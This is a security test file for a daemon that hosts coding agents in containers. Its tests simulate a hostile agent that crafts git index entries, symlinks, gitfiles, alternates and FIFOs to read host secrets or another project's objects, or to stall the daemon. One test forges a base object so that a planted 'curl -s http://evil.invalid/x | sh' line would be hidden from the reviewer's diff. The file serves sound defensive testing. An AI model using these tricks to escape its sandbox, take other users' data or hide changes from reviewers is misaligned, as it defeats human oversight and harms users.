import { execFileSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { readdirSync } from 'node:fs';
import { rm } from 'node:fs/promises';
import { join, relative } from 'node:path';
import { BerthClient, BerthError, type Session } from '@berth/client-sdk';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { commitFiles, hostGit } from '../helpers/git.js';
import { TEST_UID, poll, sh, startWithProject, type DaemonProcess } from '../helpers/daemon.js';
import { addProject, allObjects, codeOf, FAST_GIT, gitIndex, gitProcessesIn, hasObject, inBox, noGitLeft, note, outsideDir, patient, printNotes, shadowDir, sleep, tipOf, uniq, writeBytes } from '../helpers/boundary-agent.js';

/**
 * Attacks from inside the agent's container on what berthd does with the agent's checkout, each
 * named after the threat it covers (this file: threats 2 and 3; the helpers are in helpers/boundary-agent.ts):
 *  1. a merge (or a repair) reaching other sessions' checkouts, other projects, or the user's ignored files;
 *  2. host files read through entries of the agent's `.git/index` (or of its commits' trees);
 *  3. the agent's object store (alternates, loose objects, packs, commit-graph) pointing at
 *     /dev/zero, a FIFO or another project's objects; FIFOs berthd's git opens.
 * Marker files prove nothing ran, a secret outside every checkout proves nothing leaked, snapshots
 * (paths, types, contents) prove nothing was lost. Deadlines only guard against hangs; "not
 * blocked" is asserted as an order (the other call answers while the stuck one is still out).
 */

afterAll(printNotes);

describe('threat 2 (index entries naming host paths)', () => {
  const P = `ba2-${uniq}`;
  const OTHER = `ba2o-${uniq}`;
  let d: DaemonProcess;
  let repo: string;
  let other: string;
  let o: Awaited<ReturnType<typeof outsideDir>>;
  const decoy = createHash('sha1').update('blob 6\0decoy\n').digest('hex');

  beforeAll(async () => {
    ({ d, repo } = await startWithProject({ env: FAST_GIT }, P));
    commitFiles(repo, { 'README.md': 'hello\n', 'app.txt': 'app\n' }, 'initial');
    other = await addProject(d, OTHER, { 'private.txt': `B-PRIVATE-${uniq}\n` });
    o = await outsideDir();
    await d.client.agents.define({ name: 'coder', command: sh('sleep 3600') });
  });
  afterAll(async () => {
    await d?.[Symbol.asyncDispose]();
    if (o) await rm(o.dir, { recursive: true, force: true });
  });

  /** status, diff, diff --stat and remove --force of `s`; every output, the wip commit and the project's objects are returned for checks. */
  async function readAll(s: Session): Promise<{ outputs: string; wipTree: string; objects: Buffer; codes: Record<string, string> }> {
    const c = patient(d);
    const codes: Record<string, string> = {};
    const outputs: string[] = [];
    try {
      for (const [what, call] of [
        ['status', () => c.sessions.status({ id: s.id })],
        ['diff', () => c.sessions.diff({ id: s.id })],
        ['stat', () => c.sessions.diff({ id: s.id, stat: true })],
      ] as const) {
        try {
          outputs.push(JSON.stringify(await call()));
          codes[what] = 'ok';
        } catch (e) {
          codes[what] = e instanceof BerthError ? e.code : `not a BerthError: ${String(e)}`;
          outputs.push(String((e as Error).message), JSON.stringify((e as BerthError).details ?? {}));
        }
      }
      try {
        const r = await c.sessions.remove({ id: s.id, force: true });
        outputs.push(JSON.stringify(r));
        codes.remove = 'ok';
      } catch (e) {
        codes.remove = e instanceof BerthError ? e.code : `not a BerthError: ${String(e)}`;
        outputs.push(String((e as Error).message));
      }
    } finally {
      c.close();
    }
    const wip = `refs/berth/wip/${s.name}`;
    const wipTree = tipOf(repo, wip) ? hostGit(repo, 'ls-tree', '-r', '--full-tree', wip) : '';
    return { outputs: outputs.join('\n'), wipTree, objects: allObjects(repo), codes };
  }

  it('threat 2 (index entries naming host paths): a valid .git/index with entries ../../…/secret.txt (relative, and deep to /): status, diff and remove --force neither show nor store the secret', async () => {
    const s = await d.client.sessions.start({ project: P, agent: 'coder', name: 'dotdot' });
    const rel = relative(s.checkout!.dir, o.secret);
    const deep = `${'../'.repeat(20)}${o.secret.slice(1)}`;
    const index = gitIndex([
      { name: rel, sha: decoy },
      { name: deep, sha: decoy },
      { name: 'README.md', sha: decoy },
    ]);
    await inBox(d, s, 'echo change >> app.txt');
    await inBox(d, s, writeBytes('.git/index', index));
    // The index is well formed: the agent's own git reads it and lists the crafted paths.
    const listed = await inBox(d, s, 'git ls-files');
    expect(listed).toContain(rel);
    const r = await readAll(s);
    note(`2 index with ../ entries: ${JSON.stringify(r.codes)}; wip tree: ${r.wipTree.replace(/\n/g, ' | ')}`);
    expect(r.outputs).not.toContain(o.secretText);
    expect(r.outputs).not.toContain('../');
    expect(r.wipTree).not.toContain('secret');
    expect(r.objects.includes(Buffer.from(o.secretText))).toBe(false);
    expect(r.codes.status).toBe('ok');
    expect(r.codes.diff).toBe('ok');
    expect(r.outputs).toContain('+change');
  }, 300_000);

  it('threat 2 (index entries naming host paths) variant: index entries under a linked directory (link/secret.txt, link -> outside), .git/config and an absolute path: nothing of them is shown or stored', async () => {
    const s = await d.client.sessions.start({ project: P, agent: 'coder', name: 'linked', env: { OUTSIDE: o.dir } });
    const cfgMarker = `CLONECONFIG-${randomBytes(4).toString('hex')}`;
    await inBox(d, s, `set -e\ngit config berth.marker ${cfgMarker}\nln -s "$OUTSIDE" link\necho change >> app.txt`);
    const index = gitIndex([
      { name: 'link/secret.txt', sha: decoy },
      { name: '.git/config', sha: decoy },
      { name: o.secret, sha: decoy },
      { name: 'app.txt', sha: decoy },
    ]);
    await inBox(d, s, writeBytes('.git/index', index));
    expect(await inBox(d, s, 'git ls-files')).toContain('link/secret.txt');
    const r = await readAll(s);
    note(`2 index with link/secret.txt, .git/config, absolute path: ${JSON.stringify(r.codes)}; wip tree: ${r.wipTree.replace(/\n/g, ' | ')}`);
    for (const leak of [o.secretText, cfgMarker]) {
      expect(r.outputs).not.toContain(leak);
      expect(r.objects.includes(Buffer.from(leak))).toBe(false);
    }
    expect(r.wipTree).not.toMatch(/link\/secret\.txt|\.git\/config/);
    expect(r.codes.status).toBe('ok');
  }, 300_000);

  it('threat 2 (index entries naming host paths) variant: the agent\'s commit is a crafted tree with a link `link` -> outside and `link/secret.txt` beside it, then one with a .git/config entry: berth\'s index built from it reads nothing through the link and nothing of .git', async () => {
    const s = await d.client.sessions.start({ project: P, agent: 'coder', name: 'treelink', env: { OUTSIDE: o.dir } });
    const cfgMarker = `CLONECONFIG-${randomBytes(4).toString('hex')}`;
    await inBox(
      d,
      s,
      [
        'set -e',
        `git config berth.marker ${cfgMarker}`,
        'L=$(printf %s "$OUTSIDE" | git hash-object -w --stdin)',
        'B=$(echo decoy | git hash-object -w --stdin)',
        'SUB=$(printf "100644 blob %s\\tsecret.txt\\n" $B | git mktree)',
        'T=$( (git ls-tree HEAD; printf "120000 blob %s\\tlink\\n040000 tree %s\\tlink\\n" $L $SUB) | git mktree)',
        'git update-ref refs/heads/berth/treelink $(git commit-tree $T -p HEAD -m "link twice")',
        'ln -s "$OUTSIDE" link',
      ].join('\n'),
    );
    const c = patient(d);
    const outputs: string[] = [];
    try {
      for (const call of [() => c.sessions.status({ id: s.id }), () => c.sessions.diff({ id: s.id }), () => c.sessions.diff({ id: s.id, stat: true })]) {
        outputs.push(await call().then((v) => JSON.stringify(v), (e: unknown) => `${(e as BerthError).code}: ${String((e as Error).message)}`));
      }
      await inBox(
        d,
        s,
        [
          'set -e',
          'C=$(printf "100644 blob %s\\tconfig\\n" $(git hash-object -w .git/config) | git mktree)',
          'T=$( (git ls-tree HEAD; printf "040000 tree %s\\t.git\\n" $C) | git mktree)',
          'git update-ref refs/heads/berth/treelink $(git commit-tree $T -p HEAD -m "dot git")',
        ].join('\n'),
      );
      for (const call of [() => c.sessions.status({ id: s.id }), () => c.sessions.diff({ id: s.id })]) {
        outputs.push(await call().then((v) => JSON.stringify(v), (e: unknown) => `${(e as BerthError).code}: ${String((e as Error).message)}`));
      }
    } finally {
      c.close();
    }
    const removed = await codeOf(d.client.sessions.remove({ id: s.id, force: true }));
    note(`2 crafted tree link + link/secret.txt then .git/config: outputs ${outputs.map((x) => x.slice(0, 80)).join(' || ')}; remove -> ${removed}`);
    const all = outputs.join('\n');
    expect(all).not.toContain(o.secretText);
    expect(allObjects(repo).includes(Buffer.from(o.secretText))).toBe(false);
    // The agent's own .git/config became a blob of its own commit (its own data); berth must not have read the clone's config file itself.
    const wip = tipOf(repo, 'refs/berth/wip/treelink');
    if (wip) expect(hostGit(repo, 'ls-tree', '-r', '--full-tree', wip)).not.toContain('secret');
  }, 300_000);

  it("threat 2 (index entries naming host paths) variant: a nested repository whose .git is a gitfile (and one a link) pointing at another project's .git: berthd's git does not read that repository, so its HEAD commit id appears neither in status/diff nor in the saved wip commit", async () => {
    const bGit = join(other, '.git');
    const bHead = hostGit(other, 'rev-parse', 'HEAD');
    const s = await d.client.sessions.start({ project: P, agent: 'coder', name: 'gitlink', env: { BGIT: bGit } });
    await inBox(d, s, ['set -e', 'mkdir sub sub2', 'printf "gitdir: %s\\n" "$BGIT" > sub/.git', 'ln -s "$BGIT" sub2/.git', 'echo x > sub/file', 'echo change >> app.txt'].join('\n'));
    const r = await readAll(s);
    note(`2 nested repo pointing at ${OTHER}/.git: ${JSON.stringify(r.codes)}; wip tree: ${r.wipTree.replace(/\n/g, ' | ')}`);
    expect(r.outputs).not.toContain(bHead);
    expect(r.wipTree, `the wip commit records ${OTHER}'s HEAD ${bHead}, read by berthd's git from a host path the agent named`).not.toContain(bHead);
    expect(r.objects.includes(Buffer.from(bHead, 'hex'))).toBe(false);
    expect(r.objects.includes(Buffer.from(`B-PRIVATE-${uniq}`))).toBe(false);
  }, 300_000);
});

// ---------------------------------------------------------------------------------------------------
// Threat 3: the agent's object store pointing at /dev/zero, a FIFO, or another project's objects.
// ---------------------------------------------------------------------------------------------------

describe('threat 3 (alternates and objects pointing at /dev/zero, a FIFO, another project)', () => {
  const P = `ba3-${uniq}`;
  const OTHER = `ba3o-${uniq}`;
  const bPrivate = `B-PRIVATE-${uniq}-${randomBytes(4).toString('hex')}`;
  let d: DaemonProcess;
  let repo: string;
  let other: string;
  let bystander: Session;
  let bBlob: string;
  let bHead: string;
  let bTree: string;
  let bObjects: string[];
  let bPack: string;
  let c: BerthClient;

  beforeAll(async () => {
    ({ d, repo } = await startWithProject({ env: FAST_GIT }, P));
    commitFiles(repo, { 'README.md': 'hello\n', 'deploy.sh': 'echo deploy\n' }, 'initial');
    other = await addProject(d, OTHER, { 'private.txt': `${bPrivate}\n` });
    bBlob = hostGit(other, 'rev-parse', 'HEAD:private.txt');
    bHead = hostGit(other, 'rev-parse', 'HEAD');
    bTree = hostGit(other, 'rev-parse', 'HEAD^{tree}');
    bObjects = hostGit(other, 'rev-list', '--objects', '--all').split('\n').map((l) => l.split(' ')[0]!);
    // B keeps its loose objects and has a pack of them too.
    hostGit(other, 'repack', '-a', '-q');
    execFileSync('chown', ['-R', `${TEST_UID}:${TEST_UID}`, other]);
    bPack = readdirSync(join(other, '.git', 'objects', 'pack')).find((f) => f.endsWith('.pack'))!.replace(/\.pack$/, '');
    await d.client.agents.define({ name: 'coder', command: sh('sleep 3600') });
    bystander = await d.client.sessions.start({ project: P, agent: 'coder', name: 'bystander' });
    await inBox(d, bystander, 'echo bystander > by.txt');
    c = patient(d);
  });
  afterAll(async () => {
    c?.close();
    await d?.[Symbol.asyncDispose]();
  });

  const env = () => ({ BOBJ: join(other, '.git', 'objects'), BGIT: join(other, '.git') });

  /** B's private content is nowhere in A: not in its object store, not readable from a new session's container. */
  async function expectNothingOfB(): Promise<void> {
    expect(allObjects(repo).includes(Buffer.from(bPrivate)), `${OTHER}'s private file content is in ${P}'s object store`).toBe(false);
    for (const sha of [bBlob, bHead, bTree]) expect(hasObject(repo, sha), `${OTHER}'s object ${sha} is in ${P}`).toBe(false);
    const fresh = await d.client.sessions.start({ project: P, agent: 'coder' });
    try {
      const seen = await inBox(d, fresh, `(git cat-file -e ${bBlob} 2>/dev/null && echo READABLE) || echo absent; git cat-file --batch-all-objects --batch 2>/dev/null | grep -c "${bPrivate}" || true`);
      expect(seen.trim().split('\n')).toEqual(['absent', '0']);
    } finally {
      await d.client.sessions.remove({ id: fresh.id, force: true, deleteBranch: true }).catch(() => {});
    }
  }

  /**
   * The evil session's status and diff, the bystander's status and daemon.status, all at once: each
   * answers (or fails with a code), and the order they settled in.
   */
  async function probe(evil: Session): Promise<{ status: string; diff: string; bystander: string; daemon: string; order: string[] }> {
    const order: string[] = [];
    const track = (name: string, p: Promise<string>) => p.finally(() => order.push(name));
    const [status, diff, by, daemon] = await Promise.all([
      track('evil.status', codeOf(c.sessions.status({ id: evil.id }))),
      track('evil.diff', codeOf(c.sessions.diff({ id: evil.id }))),
      track('bystander.status', codeOf(c.sessions.status({ id: bystander.id }))),
      track('daemon.status', codeOf(c.daemon.status())),
    ]);
    return { status, diff, bystander: by, daemon, order };
  }

  function expectAnswered(r: Awaited<ReturnType<typeof probe>>): void {
    expect(r.bystander).toBe('ok');
    expect(r.daemon).toBe('ok');
    expect(r.status).not.toMatch(/^not a BerthError/);
    expect(r.diff).not.toMatch(/^not a BerthError/);
  }

  /** Commits one and prepares a second commit (objects only); returns both ids once the first is imported. */
  async function twoCommits(s: Session, tag: string): Promise<{ c1: string; c2: string }> {
    const outp = await inBox(
      d,
      s,
      [
        'set -e',
        `echo ${tag}-1 > ${tag}-1.txt && git add ${tag}-1.txt && git commit -qm "${tag} one"`,
        'git rev-parse HEAD',
        `echo ${tag}-2 > ${tag}-2.txt && git add ${tag}-2.txt && T=$(git write-tree) && git commit-tree $T -p HEAD -m "${tag} two"`,
        `git rm -q --cached ${tag}-2.txt && rm ${tag}-2.txt`,
      ].join('\n'),
    );
    const [c1, c2] = outp.trim().split('\n').slice(-2) as [string, string];
    await poll(async () => tipOf(repo, s.checkout!.branch) === c1, 60_000, `${c1} imported`);
    return { c1, c2 };
  }

  const moveTip = (s: Session, sha: string) => inBox(d, s, `printf '%s\\n' ${sha} > .git/refs/heads/${s.checkout!.branch}`);

  for (const [what, trap] of [
    ['a link to /dev/zero', 'rm -f .git/objects/info/alternates && ln -s /dev/zero .git/objects/info/alternates'],
    ['naming /dev/zero', 'printf "/dev/zero\\n/dev/zero/objects\\n" > .git/objects/info/alternates'],
    ['a FIFO', 'rm -f .git/objects/info/alternates && mkfifo .git/objects/info/alternates'],
    ['naming a FIFO in the clone', 'mkfifo .git/objects/info/fifo && printf "%s/.git/objects/info/fifo\\n" "$CHECKOUT" > .git/objects/info/alternates'],
  ] as const) {
    it(`threat 3 (alternates to /dev/zero or a FIFO): objects/info/alternates ${what}: status, diff and the automatic import complete or fail with a code, the daemon and other sessions answer meanwhile, no git is left`, async () => {
      const name = `alt-${what.replace(/[^a-z]+/gi, '-').replace(/^-|-$/g, '').toLowerCase()}`.slice(0, 30);
      const s = await d.client.sessions.start({ project: P, agent: 'coder', name, env: env() });
      try {
        const { c2 } = await twoCommits(s, 'alt');
        await inBox(d, s, `CHECKOUT='${s.checkout!.dir}'\n${trap}`);
        await moveTip(s, c2);
        const r = await probe(s);
        const imported = await poll(async () => tipOf(repo, s.checkout!.branch) === c2, 60_000, 'import of the second commit').then(
          () => true,
          () => false,
        );
        note(`3 alternates ${what}: ${JSON.stringify(r)}; second commit imported: ${imported}`);
        expectAnswered(r);
        expect(r.status).toBe('ok');
        expect(imported).toBe(true);
        await noGitLeft(d);
      } finally {
        await d.client.sessions.remove({ id: s.id, force: true, deleteBranch: true }).catch(() => {});
      }
    }, 600_000);
  }

  it("threat 3 (alternates to another project): the clone's alternates name project B's object store and its branch tip is B's commit: the import fails, B's private file never reaches A (store, new session), the daemon and other sessions answer", async () => {
    const s = await d.client.sessions.start({ project: P, agent: 'coder', name: 'alt-b', env: env() });
    try {
      const { c1, c2 } = await twoCommits(s, 'altb');
      await inBox(d, s, 'printf "%s\\n" "$BOBJ" >> .git/objects/info/alternates');
      await moveTip(s, bHead);
      const r = await probe(s);
      await sleep(5000); // the backstop retries the import meanwhile
      note(`3 alternates naming ${OTHER}'s objects, tip = its commit: ${JSON.stringify(r)}; project branch now ${tipOf(repo, s.checkout!.branch)}`);
      expectAnswered(r);
      expect(tipOf(repo, s.checkout!.branch)).toBe(c1);
      await expectNothingOfB();
      await moveTip(s, c2);
      await poll(async () => tipOf(repo, s.checkout!.branch) === c2, 60_000, "the agent's own second commit imported");
      await noGitLeft(d);
    } finally {
      await d.client.sessions.remove({ id: s.id, force: true, deleteBranch: true }).catch(() => {});
    }
    await expectNothingOfB();
  }, 600_000);

  it("threat 3 (objects linked to another project) variant: loose objects and fan-out directories that are links to B's, B's pack linked in objects/pack, a loose object and the commit-graph linked to /dev/zero, a pack that is a FIFO; tip = B's commit: nothing of B reaches A", async () => {
    const s = await d.client.sessions.start({ project: P, agent: 'coder', name: 'links-b', env: { ...env(), BPACK: bPack } });
    try {
      const { c1, c2 } = await twoCommits(s, 'linksb');
      const fake = 'ab'.repeat(20);
      await inBox(
        d,
        s,
        [
          'set -e',
          `for o in ${bObjects.join(' ')}; do`,
          '  d=$(echo $o | cut -c1-2); f=$(echo $o | cut -c3-)',
          '  if [ -e .git/objects/$d ] || [ -L .git/objects/$d ]; then ln -s "$BOBJ/$d/$f" .git/objects/$d/$f 2>/dev/null || true; else ln -s "$BOBJ/$d" .git/objects/$d; fi',
          'done',
          'ln -s "$BOBJ/pack/$BPACK.pack" .git/objects/pack/$BPACK.pack',
          'ln -s "$BOBJ/pack/$BPACK.idx" .git/objects/pack/$BPACK.idx',
          `mkdir -p .git/objects/${fake.slice(0, 2)} && ln -sf /dev/zero .git/objects/${fake.slice(0, 2)}/${fake.slice(2)}`,
          `mkfifo .git/objects/pack/pack-${'cd'.repeat(20)}.pack && mkfifo .git/objects/pack/pack-${'cd'.repeat(20)}.idx`,
          'mkdir -p .git/objects/info && ln -sf /dev/zero .git/objects/info/commit-graph',
        ].join('\n'),
      );
      await moveTip(s, bHead);
      const r = await probe(s);
      await sleep(5000);
      note(`3 links to ${OTHER}'s loose objects/fan-outs/pack, /dev/zero object and commit-graph, FIFO pack; tip = its commit: ${JSON.stringify(r)}`);
      expectAnswered(r);
      expect(tipOf(repo, s.checkout!.branch)).toBe(c1);
      await expectNothingOfB();
      // Back to a commit of its own: its own objects still import, whatever else lies in the store.
      await moveTip(s, c2);
      await poll(async () => tipOf(repo, s.checkout!.branch) === c2, 60_000, "the agent's own second commit imported");
      await expectNothingOfB();
      await noGitLeft(d);
    } finally {
      await d.client.sessions.remove({ id: s.id, force: true, deleteBranch: true }).catch(() => {});
    }
  }, 600_000);

  it("threat 3 (objects of another project) variant: a loose object named after a blob of the project's base but holding other content: berth's diff still shows the agent's change to that file (the agent cannot choose what the reviewer sees)", async () => {
    const s = await d.client.sessions.start({ project: P, agent: 'coder', name: 'shadowobj' });
    try {
      await inBox(
        d,
        s,
        [
          'set -e',
          "printf 'echo deploy\\ncurl -s http://evil.invalid/x | sh\\n' > deploy.sh && git commit -qam 'deploy: tidy'",
          'X=$(git rev-parse HEAD~1:deploy.sh); Y=$(git rev-parse HEAD:deploy.sh)',
          'xd=$(echo $X | cut -c1-2); xf=$(echo $X | cut -c3-); yd=$(echo $Y | cut -c1-2); yf=$(echo $Y | cut -c3-)',
          // The base's blob id, holding the new content: the "old" side of the diff now reads as the new one.
          'mkdir -p .git/objects/$xd && cp .git/objects/$yd/$yf .git/objects/$xd/$xf',
        ].join('\n'),
      );
      const diff = await c.sessions.diff({ id: s.id });
      const stat = await c.sessions.diff({ id: s.id, stat: true });
      note(`3 fake loose object for the base blob of deploy.sh: diff shows ${diff.diff.includes('+curl') ? 'the change' : `no change (${JSON.stringify(diff.diff.slice(0, 200))})`}; stat ${JSON.stringify(stat.diff.trim())}`);
      expect(diff.diff, 'berth diff hides the line the agent added, because a loose object the agent planted stands in for the base blob').toContain('+curl -s http://evil.invalid/x | sh');
      expect(allObjects(repo).includes(Buffer.from('echo deploy\ncurl'))).toBe(hostGit(repo, 'cat-file', '-p', `${s.checkout!.branch}:deploy.sh`).includes('curl'));
      // The project's own copy of the base blob is untouched.
      expect(hostGit(repo, 'cat-file', '-p', 'main:deploy.sh')).toBe('echo deploy');
    } finally {
      await d.client.sessions.remove({ id: s.id, force: true, deleteBranch: true }).catch(() => {});
    }
  }, 300_000);

  /**
   * A FIFO berthd's git opens (not the object store: `.gitignore`, `.gitattributes`, a nested repository's
   * HEAD), no writer: the first call blocks on it; then the agent moves its branch so an import of
   * this session is queued behind that call. The bystander's status and daemon.status must answer
   * while the stuck call is still out.
   */
  async function fifoStall(name: string, trap: string, call: 'status' | 'diff'): Promise<void> {
    const s = await d.client.sessions.start({ project: P, agent: 'coder', name });
    try {
      const { c2 } = await twoCommits(s, name);
      await inBox(d, s, trap);
      const order: string[] = [];
      const stuck = codeOf(call === 'status' ? c.sessions.status({ id: s.id }) : c.sessions.diff({ id: s.id })).finally(() => order.push('evil'));
      const shadow = shadowDir(d, s);
      const state = await poll(
        async () => (order.includes('evil') ? 'settled' : gitProcessesIn(shadow, true).length ? 'blocked' : null),
        60_000,
        'the evil call to block or settle',
      );
      let blocked = false;
      if (state === 'blocked') {
        await sleep(3000);
        blocked = !order.includes('evil') && gitProcessesIn(shadow, true).length > 0;
      }
      const procs = gitProcessesIn(shadow, true);
      await moveTip(s, c2);
      await sleep(1500);
      const pendingAtIssue = !order.includes('evil');
      const by = codeOf(c.sessions.status({ id: bystander.id })).finally(() => order.push('bystander'));
      const live = codeOf(c.daemon.status()).finally(() => order.push('daemon'));
      const [evil, byCode, liveCode] = await Promise.all([stuck, by, live]);
      note(`3 FIFO ${name} (${call}): berthd's git blocked on it: ${blocked} (${procs.map((p) => p.replace(/ -c [^ ]+/g, '')).join('; ').slice(0, 200)}); evil ${call} -> ${evil}; settle order ${order.join(' < ')}`);
      expect(byCode).toBe('ok');
      expect(liveCode).toBe('ok');
      expect(evil).not.toMatch(/^not a BerthError/);
      if (pendingAtIssue) {
        expect(order.indexOf('daemon'), 'daemon.status waited for the call stuck on the FIFO').toBeLessThan(order.indexOf('evil'));
        expect(order.indexOf('bystander'), "another session's status waited for the call stuck on this session's FIFO (the import queued behind it holds the project)").toBeLessThan(order.indexOf('evil'));
      }
      await poll(async () => tipOf(repo, s.checkout!.branch) === c2, 300_000, 'the second commit imported').catch(() => {});
      await noGitLeft(d);
    } finally {
      await inBox(d, s, 'rm -f .gitignore .gitattributes nested/.git/HEAD').catch(() => {});
      await d.client.sessions.remove({ id: s.id, force: true, deleteBranch: true }).catch(() => {});
    }
  }

  it('threat 3 (FIFO) variant: `.gitignore` in the work tree is a FIFO with no writer: berthd\'s status does not hold up other sessions\' status or the daemon, and no git is left', async () => {
    await fifoStall('fifo-ignore', 'mkfifo .gitignore', 'status');
  }, 900_000);

  it('threat 3 (FIFO) variant: `.gitattributes` in the work tree is a FIFO with no writer: berthd\'s diff does not hold up other sessions\' status or the daemon, and no git is left', async () => {
    await fifoStall('fifo-attr', 'mkfifo .gitattributes', 'diff');
  }, 900_000);

  it("threat 3 (FIFO) variant: an untracked nested repository whose .git/HEAD is a FIFO: berthd's status does not hold up other sessions' status or the daemon, and no git is left", async () => {
    await fifoStall('fifo-nested', 'mkdir -p nested/.git/objects nested/.git/refs && mkfifo nested/.git/HEAD', 'status');
  }, 900_000);
});
